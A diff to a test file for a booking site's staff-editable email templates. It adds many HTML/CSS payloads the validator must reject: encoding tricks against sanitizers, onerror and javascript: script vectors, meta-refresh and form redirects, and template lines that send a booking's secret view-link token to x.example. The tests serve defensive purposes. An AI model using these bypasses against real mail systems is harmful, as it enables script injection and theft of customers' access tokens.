@@ -4,6 +4,7 @@ import { booked } from '../bookings/factory.ts'
 import { mail } from './contract.ts'
 import { seedTemplates } from './index.ts'
 import { shippedNames, shippedTemplates } from './templates.ts'
+import { delivered } from '../../test/mailbox.ts'
 
 const NAME = 'booking-confirmed.liquid'
 
@@ -17,7 +18,7 @@ async function edit(h: Harness, name: string, change: (source: string) => string
 async function subjectOfBooking(h: Harness, email: string) {
   await booked(await h.as.traveller(), 'BUY_NOW', { email })
   await h.runJobs()
-  const [sent] = await h.sql<{ subject: string }>`select subject from mail_messages where recipient = ${email}`
+  const [sent] = await h.sql<{ subject: string }>`select subject from ${delivered} where recipient = ${email}`
   return sent?.subject
 }
 
@@ -76,6 +77,9 @@ test('a new release brings its words, but not over those of staff', async () => 
 
 const LINE = '<mj-section><mj-column><mj-text>$</mj-text></mj-column></mj-section>'
 
+const inHtml = (what: string, examples: readonly string[]) =>
+  examples.map((html) => [`${what}: ${html}`, 'booking-confirmed.mjml', LINE.replace('$', () => html)] as const)
+
 const BAD: readonly (readonly [what: string, name: string, source: string])[] = [
   ['no subject', NAME, 'Hello'],
   ['a name that mails do not hold', NAME, 'Subject: {{ bookings.secret }}\nPreview: x\n\nx\n'],
@@ -85,7 +89,50 @@ const BAD: readonly (readonly [what: string, name: string, source: string])[] = 
   ['a loop without end', NAME, 'Subject: x\nPreview: x\n\n{% for i in (1..100000000) %}x{% endfor %}\n'],
   ['something that is no MJML', 'booking-confirmed.mjml', '<mj-sectoin></mj-sectoin>'],
   ['a script', 'booking-confirmed.mjml', LINE.replace('$', '<script>alert(1)</script>')],
-  ['a picture from elsewhere', 'booking-confirmed.mjml', LINE.replace('$', '<img src="https://x.example/a.png">')],
+  ...inHtml('pictures from elsewhere', [
+    '<img src="https://x.example/a.png">',
+    '<img src=//x.example/a.png>',
+    '<img srcset="https://x.example/a.png 2x">',
+    '<img src="&#104;ttps://x.example/a.png">',
+    '<img src="ht\ttps://x.example/a.png">',
+    '<table background="https://x.example/a.png"><tr><td>x</td></tr></table>',
+    '<video poster="https://x.example/a.png"></video>',
+    '<svg><image href="https://x.example/a.png"/></svg>',
+    '<p style="background:url(https://x.example/a.png)">x</p>',
+    '<p style="background:u\\72l(https://x.example/a.png)">x</p>',
+    '<!--[if mso]><img src="https://x.example/a.png"><![endif]-->',
+  ]),
+  ...inHtml('style from elsewhere', [
+    '<style>@import "https://x.example/a.css";</style>',
+    '<style>@import url(https://x.example/a.css);</style>',
+    '<style>p { content: "/*"; background: url(https://x.example/a.png); color: "*/" }</style>',
+    '<link rel="stylesheet" href="https://x.example/a.css">',
+  ]),
+  ...inHtml('what runs', [
+    '<img src="cid:a" onerror="alert(1)">',
+    '<a href="java&#115;cript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="data:text/html,x">x</a>',
+    '<iframe src="https://x.example"></iframe>',
+  ]),
+  ...inHtml('what leads away by itself', [
+    '<form action="https://x.example"><input name="a"></form>',
+    '<meta http-equiv="refresh" content="0;url=https://x.example">',
+    '<base href="https://x.example/">',
+    '<a href="//x.example">x</a>',
+  ]),
+  ...inHtml('a secret where it does not belong', [
+    '{{ links.view }}',
+    '<a href="https://x.example/?{{ links.view }}">x</a>',
+    '<a href="{{ links.view }}#x">x</a>',
+    '<p title="{{ links.view }}">x</p>',
+    '<a href="https://x.example/?{{ booking.number }}">x</a>',
+    '{{ booking.number | split: "" | join: " " }}',
+    '{{ booking.number | slice: 0, 5 }}',
+  ]),
+  ['the address of a link in a subject', NAME, 'Subject: {{ links.view }}\nPreview: x\n\nx\n'],
+  ['a link within another one', NAME, 'Subject: x\nPreview: x\n\nhttps://x.example/?{{ links.view }}\n'],
+  ['a number spelt out', NAME, 'Subject: x\nPreview: x\n\n{{ booking.number | split: "" | join: "-" }}\n'],
   ['a piece that names what one of its messages lacks', 'place.mjml', LINE.replace('$', '{{ nobody.knows }}')],
 ]
 
@@ -98,6 +145,32 @@ test('a template that cannot be used is not saved, and the reason is told', asyn
     ).rejects.toMatchObject({ fieldErrors: { source: [expect.any(String)] } })
   }
   expect(await h.sql`select name from mail_templates where source <> shipped`).toEqual([])
+})
+
+test('what was saved before it was forbidden does not leave: the mail leaves in the shipped words', async () => {
+  const h = await harness()
+  const evil = LINE.replace(
+    '$',
+    () => '<img srcset="https://x.example/?{{ links.view }}"><a href="{{ links.view }}">x</a>',
+  )
+  await h.sql`update mail_templates set source = ${evil} where name = 'booking-confirmed.mjml'`
+  await booked(await h.as.traveller())
+  await h.runJobs()
+  const [mail] = await h.sql<{ html: string }>`select html from ${delivered}`
+  expect(mail?.html).toMatch(/Your parking is booked[\s\S]+href="[^"]+token=/)
+  expect(mail?.html).not.toContain('x.example')
+})
+
+test('links to pages of others, pictures within the mail and plain styles are let through', async () => {
+  const h = await harness()
+  const fine = `<a href="https://x.example/a?b=c&amp;d" target="_blank">x</a><img src="cid:a" alt="" style="width:calc(1px + 2px)">
+    <a href="{{ links.view }}">{{ booking.number }}</a><p style="color:rgb(1,2,3)" title="{{ booking.number }}">x</p>`
+  const saved = await edit(h, 'booking-confirmed.mjml', () => LINE.replace('$', () => fine))
+  expect(saved.is_edited).toBe(true)
+  const marketing = await h.as.staff('marketing')
+  const { html } = await marketing.call(mail.previewTemplate, { name: 'booking-confirmed.mjml' })
+  expect(html).toContain('<a href="https://x.example/a?b=c&amp;d" target="_blank">x</a>')
+  expect(html).toContain('>K7WQ2M9AB</a>')
 })
 
 test('nobody overwrites the edit of another one, and a preview saves nothing', async () => {
